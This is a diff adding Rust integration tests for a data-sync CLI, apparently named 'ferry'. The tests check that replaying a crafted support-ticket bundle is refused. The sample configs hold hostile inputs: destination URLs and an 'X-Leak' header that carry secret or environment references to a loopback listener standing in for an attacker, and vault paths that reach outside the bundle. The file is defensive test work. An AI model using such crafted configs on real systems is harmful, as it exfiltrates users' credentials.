@@ -1,0 +1,232 @@
+//! `ferry replay` of a crafted bundle (one sent in a support ticket): its `replay.toml`
+//! names a network source, a destination, a secret reference or a vault of its own; the
+//! replay is refused and nothing reaches the network (a loopback listener stands for the
+//! attacker's host and must see no connection). An honest bundle whose transform keys
+//! are vault references still replays, with throwaway keys and no vault.
+
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::Output;
+
+use assert_cmd::Command;
+
+const PASSPHRASE: &str = "bundle attack test passphrase";
+
+fn ferry(dir: &Path, args: &[&str], stdin: Option<&str>) -> Output {
+    let mut c = Command::cargo_bin("ferry").unwrap();
+    c.current_dir(dir)
+        .env("FERRY_PASSPHRASE", PASSPHRASE)
+        .env_remove("FERRY_MASTER_KEY")
+        .args(args);
+    if let Some(s) = stdin {
+        c.write_stdin(s);
+    }
+    c.output().unwrap()
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+/// The attacker's host: a loopback port that must never be connected to.
+struct Listener(TcpListener);
+
+impl Listener {
+    fn new() -> Self {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        l.set_nonblocking(true).unwrap();
+        Listener(l)
+    }
+    fn port(&self) -> u16 {
+        self.0.local_addr().unwrap().port()
+    }
+    fn assert_untouched(&self) {
+        match self.0.accept() {
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+            Ok((_, from)) => panic!("the replay connected to the listener (from {from})"),
+            Err(e) => panic!("listener: {e}"),
+        }
+    }
+}
+
+/// A client folder with a vault holding `api_token`, and a bundle `b` in it whose
+/// `replay.toml` is `replay` (`kind`: what bundle.json says the replay does).
+fn bundle(dir: &Path, kind: &str, replay: &str) -> std::path::PathBuf {
+    std::fs::write(dir.join("sync.toml"), "client = \"acme\"\n").unwrap();
+    let o = ferry(
+        dir,
+        &["secrets", "set", "api_token"],
+        Some("canary-api-token-77"),
+    );
+    assert!(o.status.success(), "{}", text(&o));
+    let b = dir.join("b");
+    std::fs::create_dir_all(&b).unwrap();
+    let meta = serde_json::json!({
+        "format": "ferry-bundle/v1",
+        "client": "acme",
+        "stream": "people",
+        "stage": "transform",
+        "rows": 1,
+        "replay": kind,
+        "error": "cast of `name` failed",
+    });
+    std::fs::write(b.join("bundle.json"), meta.to_string()).unwrap();
+    std::fs::write(
+        b.join("schema.json"),
+        r#"[{"name":"id","type":"int64","nullable":false},{"name":"name","type":"string","nullable":true}]"#,
+    )
+    .unwrap();
+    std::fs::write(b.join("rows.jsonl"), "{\"id\":1,\"name\":\"Ann\"}\n").unwrap();
+    std::fs::write(b.join("exchanges.jsonl"), "").unwrap();
+    std::fs::write(b.join("replay.toml"), replay).unwrap();
+    b
+}
+
+fn refused(dir: &Path, b: &Path, listener: &Listener, why: &str) {
+    let o = ferry(dir, &["replay", b.to_str().unwrap()], None);
+    let out = text(&o);
+    assert!(!o.status.success(), "{out}");
+    assert!(out.contains("refusing to replay this bundle"), "{out}");
+    assert!(out.contains(why), "expected `{why}` in:\n{out}");
+    assert!(!out.contains("canary-api-token-77"), "{out}");
+    listener.assert_untouched();
+}
+
+const HONEST_TAIL: &str = r#"
+[destination]
+type = "file"
+path = "replay-out"
+format = "jsonl"
+
+[[streams]]
+name = "people"
+"#;
+
+#[test]
+fn a_bundle_naming_a_network_source_is_refused() {
+    let tmp = tempfile::tempdir().unwrap();
+    let l = Listener::new();
+    let port = l.port();
+    let b = bundle(
+        tmp.path(),
+        "rows",
+        &format!(
+            "client = \"acme\"\n[source]\ntype = \"postgres\"\nurl = \"postgres://postgres@127.0.0.1:{port}/test\"\n{HONEST_TAIL}"
+        ),
+    );
+    refused(tmp.path(), &b, &l, "its source is `postgres`");
+
+    let b = bundle(
+        tmp.path(),
+        "rows",
+        &format!(
+            "client = \"acme\"\n[source]\ntype = \"http\"\nbase_url = \"http://127.0.0.1:{port}\"\nstreams = [{{ name = \"people\", path = \"/p\" }}]\n{HONEST_TAIL}"
+        ),
+    );
+    refused(tmp.path(), &b, &l, "its source is `http`");
+}
+
+#[test]
+fn a_bundle_sending_a_secret_is_refused() {
+    let tmp = tempfile::tempdir().unwrap();
+    let l = Listener::new();
+    let port = l.port();
+    // a destination on the attacker's host, the token in its URL
+    let b = bundle(
+        tmp.path(),
+        "rows",
+        &format!(
+            "client = \"acme\"\n[source]\ntype = \"file\"\n[destination]\ntype = \"http\"\nurl = \"http://127.0.0.1:{port}/?t=${{secret:api_token}}\"\n[[streams]]\nname = \"people\"\n"
+        ),
+    );
+    refused(tmp.path(), &b, &l, "its destination is `http`");
+
+    // a reference in the stream's steps
+    let b = bundle(
+        tmp.path(),
+        "rows",
+        &format!(
+            "client = \"acme\"\n[source]\ntype = \"file\"\n{HONEST_TAIL}transforms = [{{ type = \"derive\", column = \"x\", expr = \"\\\"${{secret:api_token}}\\\"\", as = \"string\" }}]\n"
+        ),
+    );
+    refused(
+        tmp.path(),
+        &b,
+        &l,
+        "`streams.transforms[0].expr` holds a reference",
+    );
+
+    // an HTTP replay whose source would send the token in a header to the recorded API
+    let b = bundle(
+        tmp.path(),
+        "http",
+        &format!(
+            "client = \"acme\"\n[source]\ntype = \"http\"\nbase_url = \"http://127.0.0.1:{port}/v1\"\nheaders = {{ X-Leak = \"t=${{env:HOME}}\" }}\nstreams = [{{ name = \"people\", path = \"/p\" }}]\n{HONEST_TAIL}"
+        ),
+    );
+    refused(
+        tmp.path(),
+        &b,
+        &l,
+        "`source.headers.X-Leak` holds a reference",
+    );
+}
+
+#[test]
+fn a_bundle_with_a_vault_of_its_own_is_refused() {
+    let tmp = tempfile::tempdir().unwrap();
+    let l = Listener::new();
+    let outside = tmp.path().join(".ferry/secrets.vault");
+    let b = bundle(
+        tmp.path(),
+        "rows",
+        &format!(
+            "client = \"acme\"\n[source]\ntype = \"file\"\n[run]\nvault = \"{}\"\n{HONEST_TAIL}",
+            outside.display()
+        ),
+    );
+    refused(tmp.path(), &b, &l, "is outside the bundle");
+    let b = bundle(
+        tmp.path(),
+        "rows",
+        &format!("client = \"acme\"\n[source]\ntype = \"file\"\n[run]\nvault = \"../.ferry/secrets.vault\"\n{HONEST_TAIL}"),
+    );
+    refused(tmp.path(), &b, &l, "is outside the bundle");
+}
+
+#[test]
+fn an_honest_bundle_replays_with_throwaway_keys_and_no_vault() {
+    let tmp = tempfile::tempdir().unwrap();
+    let b = bundle(
+        tmp.path(),
+        "rows",
+        &format!(
+            "client = \"acme\"\n[source]\ntype = \"file\"\n{HONEST_TAIL}transforms = [{{ type = \"hash\", column = \"id\", key = \"${{secret:hash_key}}\" }}, {{ type = \"cast\", column = \"name\", to = \"int64\" }}]\n"
+        ),
+    );
+    // no key in the environment and no `hash_key` in any vault: nothing is opened
+    let o = Command::cargo_bin("ferry")
+        .unwrap()
+        .current_dir(tmp.path())
+        .env_remove("FERRY_PASSPHRASE")
+        .env_remove("FERRY_MASTER_KEY")
+        .args(["replay", b.to_str().unwrap()])
+        .output()
+        .unwrap();
+    let out = text(&o);
+    assert_eq!(o.status.code(), Some(0), "{out}");
+    assert!(
+        out.contains("1 transform key(s) replaced by throwaway keys"),
+        "{out}"
+    );
+    assert!(out.contains("reproduced: "), "{out}");
+    assert!(out.contains("`name`"), "{out}");
+    assert!(
+        !b.join("replay-keys").exists(),
+        "throwaway keys are removed"
+    );
+}
